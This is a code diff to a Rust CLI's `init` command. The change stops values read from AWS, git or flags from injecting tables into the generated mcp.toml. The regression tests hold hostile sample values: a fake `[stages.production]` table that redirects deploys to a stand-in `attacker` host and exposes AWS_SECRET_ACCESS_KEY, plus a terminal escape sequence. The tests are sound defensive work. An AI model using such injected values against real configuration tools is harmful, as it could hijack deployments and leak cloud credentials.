@@ -3,6 +3,14 @@
 //! On a terminal it asks for each value with a sensible default (the git
 //! remote's repository name, the Dockerfile it finds); elsewhere (CI, scripts)
 //! it takes flags and defaults and never waits for an answer.
+//!
+//! Values come from outside `mcp` (a live task definition, the git remote, the
+//! directory's name), so none is pasted into the file as text: a value is
+//! encoded by `toml_edit`, so whatever it holds stays inside its string, and a
+//! value shown in a `#` comment is refused when it holds a control character
+//! (a newline would end the comment and let the value write tables of its own,
+//! e.g. a `[stages.production]` that sends a token elsewhere). The written text
+//! is parsed back and compared with the answers before it reaches the disk.
 
 use std::fmt;
 use std::path::{Path, PathBuf};
@@ -204,16 +212,34 @@ pub async fn init(options: &InitOptions, printer: &Printer) -> Result<ExitStatus
         }
     }
 
-    std::fs::write(&path, render(&answers))
-        .with_context(|| format!("writing `{}`", path.display()))?;
+    let text = render(&answers)?;
+    std::fs::write(&path, text).with_context(|| format!("writing `{}`", path.display()))?;
     printer.status("Wrote", path.display());
+    // Keep the local target's `.env` and the git history out of every image.
+    let ignore_file = options.dir.join(crate::docker::context::DOCKERIGNORE);
+    match crate::docker::context::ensure_dockerignore(&options.dir) {
+        Ok(crate::docker::context::IgnoreChange::Created(lines)) => printer.status(
+            "Wrote",
+            format!("{} ({})", ignore_file.display(), lines.join(", ")),
+        ),
+        Ok(crate::docker::context::IgnoreChange::Appended(lines)) => printer.status(
+            "Added",
+            format!("{} to {}", lines.join(", "), ignore_file.display()),
+        ),
+        Ok(crate::docker::context::IgnoreChange::Unchanged) => {}
+        Err(err) => printer.warn(format!(
+            "could not make {} keep out .env and .git: {err:#}",
+            ignore_file.display()
+        )),
+    }
     printer.data(&answers)?;
     Ok(ExitStatus::Success)
 }
 
-/// A TOML string literal.
+/// A TOML string value encoded by `toml_edit`: quotes, backslashes and
+/// newlines in `value` stay inside the string.
 fn quoted(value: &str) -> String {
-    toml::Value::String(value.to_string()).to_string()
+    toml_edit::Value::from(value).to_string()
 }
 
 fn optional(key: &str, value: Option<&str>, example: &str) -> String {
@@ -223,9 +249,51 @@ fn optional(key: &str, value: Option<&str>, example: &str) -> String {
     }
 }
 
+/// A value from outside that is shown in a `#` comment: a comment runs to the
+/// end of its line, so a control character (a newline first of all) is refused.
+fn for_comment<'a>(what: &str, value: &'a str) -> Result<&'a str> {
+    if value.chars().any(char::is_control) {
+        return Err(McpError::usage(format!(
+            "{what} holds a control character: {}",
+            quoted_for_error(value)
+        ))
+        .hint("mcp.toml was not written; fix the value at its source or pass it as a flag")
+        .into());
+    }
+    Ok(value)
+}
+
+/// A hostile value, shown escaped (and cut) so it cannot write to the terminal.
+fn quoted_for_error(value: &str) -> String {
+    let shown: String = value.chars().take(120).collect();
+    let more = if value.chars().count() > 120 {
+        "…"
+    } else {
+        ""
+    };
+    format!("\"{}\"{more}", shown.escape_default())
+}
+
 /// The file's text: every key with a comment, optional ones commented out.
-pub fn render(a: &Answers) -> String {
-    format!(
+///
+/// Errors when a value meant for a comment holds a control character, or when
+/// the text would not read back as exactly these answers.
+pub fn render(a: &Answers) -> Result<String> {
+    let name_bare = for_comment("the project name", &a.name)?;
+    let log_group = match &a.log_group {
+        Some(group) => {
+            let group = for_comment(
+                "the awslogs-group option of the live task definition's container",
+                group,
+            )?;
+            format!(
+                "# logs: CloudWatch log group {} (from the task definition's awslogs options)\n",
+                quoted(group)
+            )
+        }
+        None => String::new(),
+    };
+    let text = format!(
         r#"# mcp.toml: how `mcp` builds, pushes and deploys this MCP server.
 # Precedence: flag > MCP_* environment variable > [stages.<name>] > this file > default.
 # Reference: the "Configuration" section of mcp's README.
@@ -264,10 +332,10 @@ health_path = "/healthz"
 # API_KEY = "arn:aws:secretsmanager:us-east-1:123456789012:secret:/prod/mcp/api-key"
 
 # [stages.staging]                # overlays any of the above with --stage staging
-# ecs = {{ cluster = "staging", service = "{name_bare}-staging" }}
+# ecs = {{ cluster = "staging", service = {staging_service} }}
 "#,
         name = quoted(&a.name),
-        name_bare = a.name,
+        staging_service = quoted(&format!("{name_bare}-staging")),
         region = optional("region", a.region.as_deref(), "us-east-1"),
         dockerfile = quoted(&a.dockerfile),
         repository = quoted(&a.repository),
@@ -275,14 +343,46 @@ health_path = "/healthz"
         service = quoted(&a.service),
         container = optional("container", a.container.as_deref(), "mcp"),
         url = optional("url", a.url.as_deref(), "https://mcp.example.com/mcp"),
-        log_group = a
-            .log_group
-            .as_ref()
-            .map(|g| format!(
-                "# logs: CloudWatch log group {g} (from the task definition's awslogs options)\n"
-            ))
-            .unwrap_or_default(),
-    )
+    );
+    reads_back(a, &text)?;
+    Ok(text)
+}
+
+/// Parse `text` with the strict schema and check it holds exactly the answers
+/// and no table they did not ask for: the last line of defence against a value
+/// that found a way out of its string.
+fn reads_back(a: &Answers, text: &str) -> Result<()> {
+    let file = crate::config::file::parse(&a.path, text)
+        .context("the mcp.toml about to be written does not parse; nothing was written")?;
+    let layer = &file.layer;
+    let build = layer.build.as_ref();
+    let ecs = layer.ecs.as_ref();
+    let deploy = layer.deploy.as_ref();
+    let same = layer.name.as_deref() == Some(a.name.as_str())
+        && layer.region == a.region
+        && layer.profile.is_none()
+        && layer.target.is_none()
+        && layer.stages.is_none()
+        && layer.services.is_none()
+        && layer.secrets_prefix.is_none()
+        && layer.env.as_ref().is_none_or(|e| e.is_empty())
+        && layer.secrets.as_ref().is_none_or(|s| s.is_empty())
+        && build.and_then(|b| b.dockerfile.as_deref()) == Some(a.dockerfile.as_str())
+        && build.is_some_and(|b| b.args.is_none() && b.target.is_none())
+        && layer.ecr.as_ref().and_then(|e| e.repository.as_deref()) == Some(a.repository.as_str())
+        && ecs.and_then(|e| e.cluster.as_deref()) == Some(a.cluster.as_str())
+        && ecs.and_then(|e| e.service.as_deref()) == Some(a.service.as_str())
+        && ecs.and_then(|e| e.container.as_deref()) == a.container.as_deref()
+        && deploy.and_then(|d| d.url.as_deref()) == a.url.as_deref()
+        && deploy.is_some_and(|d| d.auth_token_env.is_none() && d.allow_insecure_http.is_none());
+    if !same {
+        return Err(McpError::new(
+            "the mcp.toml about to be written does not read back as the values given; nothing was written",
+        )
+        .hint("a value read from the live service, git or a flag changed the file's structure; check them for quotes or line breaks")
+        .into());
+    }
+    Ok(())
 }
 
 /// What a live service says about itself.
@@ -322,7 +422,7 @@ async fn read_service(options: &InitOptions, spec: &str) -> Result<LiveService> 
     }
     let settings = crate::config::resolve(None, &inputs)?;
     let clients = crate::aws::Clients::new(&settings).await;
-    let live = crate::ops::rollout::describe_service(&clients, cluster, service).await?;
+    let live = crate::aws::ecs::describe_service(&clients, cluster, service).await?;
     let arn = live.task_definition().unwrap_or_default().to_string();
     let described = clients
         .ecs
@@ -340,8 +440,9 @@ async fn read_service(options: &InitOptions, spec: &str) -> Result<LiveService> 
         options.container.as_deref(),
         definition.family().unwrap_or("?"),
     )?;
-    let repository = crate::ops::image::ImageRef::parse(container.image().unwrap_or_default())
-        .ok()
+    let repository = container
+        .image()
+        .map(crate::release::ImageRef::parse)
         .filter(|r| r.ecr().is_some())
         .map(|r| r.repository);
     let log_group = container
@@ -387,7 +488,7 @@ mod tests {
             dockerfile: "Dockerfile".into(),
             log_group: Some("/ecs/quilt".into()),
         };
-        let text = render(&answers);
+        let text = render(&answers).unwrap();
         let file = crate::config::file::parse(Path::new("mcp.toml"), &text).unwrap();
         let ecs = file.layer.ecs.unwrap();
         assert_eq!(ecs.cluster.as_deref(), Some("sales-prod"));
@@ -396,5 +497,77 @@ mod tests {
             file.layer.deploy.unwrap().url.as_deref(),
             Some("https://demo.example.com/mcp")
         );
+    }
+
+    fn answers() -> Answers {
+        Answers {
+            path: "mcp.toml".into(),
+            name: "svc".into(),
+            region: Some("us-east-1".into()),
+            cluster: "c".into(),
+            service: "svc".into(),
+            repository: "svc".into(),
+            container: Some("mcp".into()),
+            url: None,
+            dockerfile: "Dockerfile".into(),
+            log_group: Some("/ecs/svc".into()),
+        }
+    }
+
+    const INJECTED: &str = "\n[stages.production]\ndeploy = { url = \"http://attacker/mcp\", auth_token_env = \"AWS_SECRET_ACCESS_KEY\" }\n";
+
+    /// Guards issue 16 item 1: a log group that breaks out of its comment is
+    /// refused, and no text is produced.
+    #[test]
+    fn a_log_group_with_a_newline_is_refused() {
+        let mut a = answers();
+        a.log_group = Some(format!("/ecs/svc{INJECTED}"));
+        let err = render(&a).unwrap_err();
+        let mcp = err.downcast_ref::<McpError>().unwrap();
+        assert!(
+            mcp.message.starts_with("the awslogs-group option"),
+            "{}",
+            mcp.message
+        );
+        assert!(
+            !mcp.message.contains('\n'),
+            "shown escaped: {}",
+            mcp.message
+        );
+    }
+
+    /// Guards issue 16 item 1: values from outside stay inside their strings,
+    /// whatever they hold (quotes, newlines, a fake table).
+    #[test]
+    fn hostile_values_stay_inside_their_strings() {
+        let mut a = answers();
+        a.log_group = None;
+        a.container = Some(format!("mcp\"{INJECTED}"));
+        a.repository = format!("repo'''\"\"\"{INJECTED}");
+        a.region = Some(format!("us-east-1{INJECTED}"));
+        let text = render(&a).unwrap();
+        let file = crate::config::file::parse(Path::new("mcp.toml"), &text).unwrap();
+        assert!(file.layer.stages.is_none(), "{text}");
+        assert_eq!(file.layer.ecs.unwrap().container, a.container);
+        assert_eq!(
+            file.layer.ecr.unwrap().repository.as_ref(),
+            Some(&a.repository)
+        );
+        assert_eq!(file.layer.region, a.region);
+    }
+
+    /// The project name (from git or the live service) also appears in a comment.
+    #[test]
+    fn a_name_with_a_control_character_is_refused() {
+        let mut a = answers();
+        a.name = format!("svc{INJECTED}");
+        let err = render(&a).unwrap_err();
+        assert!(
+            err.to_string()
+                .starts_with("the project name holds a control character"),
+            "{err}"
+        );
+        a.name = "svc\u{1b}]0;owned\u{7}".into();
+        assert!(render(&a).is_err());
     }
 }
